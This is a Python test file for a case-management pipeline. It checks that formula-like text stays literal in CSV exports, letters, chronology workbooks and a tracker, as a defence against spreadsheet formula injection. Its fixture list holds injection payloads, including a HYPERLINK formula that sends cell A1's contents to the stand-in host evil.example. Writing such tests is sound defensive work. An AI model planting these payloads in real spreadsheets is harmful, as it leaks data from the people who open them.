"""Formula injection (issue 14.9): text that a spreadsheet would run as a formula stays
literal text in every output that can carry it: chase.csv (a leading quote, the OWASP
rule) and its reminder letters, the chronology's workbook and document, the tracker."""

from __future__ import annotations

import csv
import hashlib
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pipeline.core.files import csv_text, literal_cell
from pipeline.office.excel import string_cell

from ..conftest import HEADER, base_case, chronology, event, run, text_of, write_case, write_xlsx

TODAY = "2026-11-22"
HOSTILE = [
    '=HYPERLINK("http://evil.example/x?d="&A1,"Click here")',
    "@SUM(1)",
    "+44 20 7946 0000",
    "-1+1",
    "\t=1+1",
    "\r=2+2",
]
PHONE = "+44 20 7946 0000"


def digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def sheet_cells(path: Path) -> list[tuple[str, object, str]]:
    """Every non-empty cell of every sheet: (sheet, value, openpyxl's data type)."""
    book = openpyxl.load_workbook(path)
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def formulas(path: Path) -> list[str]:
    """Every formula element in the workbook's sheets (a formula is <f>)."""
    with zipfile.ZipFile(path) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", book.read(name))
        ]


def shown(value: str) -> str:
    """The value as a reader keeps it: returns and YAML may trim the leading tab or CR."""
    return value.strip()


@pytest.mark.parametrize("value", HOSTILE)
def test_literal_cell_quotes_every_formula_start(value: str) -> None:
    assert literal_cell(value) == "'" + value
    assert literal_cell("Sam Ellis") == "Sam Ellis"
    assert literal_cell(3) == 3
    rows = list(csv.reader(csv_text([[value, 3]]).splitlines(keepends=True)))
    assert rows == [["'" + value, "3"]]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_sheet_xml_string_cell_is_never_a_formula(value: str) -> None:
    xml = string_cell("A1", 0, value)
    assert 't="inlineStr"' in xml and "<f>" not in xml


def test_chase_csv_and_reminders_keep_hostile_contacts_literal(tmp_path: Path) -> None:
    agencies = [
        {"key": f"agency-{i}", "name": f"Agency {i}", "contact": {"name": v, "phone": PHONE}}
        for i, v in enumerate(HOSTILE)
    ]
    folder = write_case(tmp_path, base_case() | {"agencies": agencies})
    inputs = digest(folder.parent)
    out = tmp_path / "out"
    result = run("chase", folder, "--out", out, "--today", TODAY)
    assert result.exit_code == 0, result.output
    with (out / folder.name / "chase.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    contacts = [row["contact"] for row in rows]
    assert all(c.startswith("'") for c in contacts), contacts
    assert [c[1:].strip() for c in contacts] == [shown(v) for v in HOSTILE]
    assert {row["phone"] for row in rows} == {"'" + PHONE}
    for row in rows:  # no cell a spreadsheet would evaluate
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for i, value in enumerate(HOSTILE):
        letter = text_of(out / folder.name / "requests" / f"agency-{i}-reminder.docx")
        assert shown(value) in letter  # a letter shows the name as written
    assert digest(folder.parent) == inputs


def hostile_case(tmp_path: Path) -> Path:
    """A case whose agency name and return cells are formula-like text."""
    case = base_case(agencies=("police",))
    case["agencies"] = [{"key": "police", "name": '=HYPERLINK("http://x","Police")'}]
    folder = write_case(tmp_path, case)
    rows = [
        event(
            f"0{i + 1}/09/2026",
            text=value,
            source=HOSTILE[(i + 1) % len(HOSTILE)],
            action=HOSTILE[(i + 2) % len(HOSTILE)],
        )
        + [value]
        for i, value in enumerate(HOSTILE)
    ]
    write_xlsx(
        folder / "returns" / "police.xlsx", chronology(*rows, header=[*HEADER, "Agency ref"])
    )
    return folder


def test_the_chronology_keeps_formula_like_agency_text_as_text(tmp_path: Path) -> None:
    folder = hostile_case(tmp_path)
    inputs = digest(folder.parent)
    out = tmp_path / "out"
    result = run("chronology", folder, "--out", out, "--today", TODAY)
    assert result.exit_code == 0, result.output
    xlsx = out / folder.name / "multi-agency-chronology.xlsx"
    assert formulas(xlsx) == []
    cells = sheet_cells(xlsx)
    texts = [value for _, value, _ in cells if isinstance(value, str)]
    for value in HOSTILE:
        found = [(s, v, t) for s, v, t in cells if isinstance(v, str) and shown(value) in v]
        assert found, value
        assert all(kind == "s" for _, _, kind in found)  # a string cell, never a formula
    assert any(t.startswith("=HYPERLINK") for t in texts)  # the agency's name, as written
    document = text_of(out / folder.name / "multi-agency-chronology.docx")
    for value in HOSTILE:
        assert shown(value) in document
    assert digest(folder.parent) == inputs


def test_the_tracker_keeps_formula_like_case_text_as_text(tmp_path: Path) -> None:
    for i, value in enumerate(HOSTILE):
        case = base_case(reference=f"TEST-{i}")
        case["child"] = case["child"] | {"pseudonym": value}
        write_case(tmp_path, case)
    cases = tmp_path / "cases"
    inputs = digest(cases)
    out = tmp_path / "out"
    result = run("tracker", cases, "--out", out, "--today", TODAY)
    assert result.exit_code == 0, result.output
    xlsx = out / "tracker.xlsx"
    assert formulas(xlsx) == []
    cells = sheet_cells(xlsx)
    for value in HOSTILE:
        found = [kind for _, v, kind in cells if isinstance(v, str) and shown(value) in v]
        assert found and set(found) == {"s"}, value
    assert digest(cases) == inputs
